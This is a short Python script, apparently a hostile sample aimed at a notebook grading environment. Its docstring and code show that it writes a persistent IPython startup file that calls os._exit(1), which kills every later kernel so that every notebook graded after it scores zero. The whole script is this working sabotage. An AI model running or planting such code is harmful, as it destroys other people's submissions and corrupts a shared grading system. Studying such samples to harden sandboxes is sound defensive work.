"""Leaves an IPython start-up file in the home folder: every later kernel runs it first. This one
kills them, so every notebook graded after this one gets 0."""
import pathlib

startup = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00-hostile.py").write_text("import os\nos._exit(1)\n")
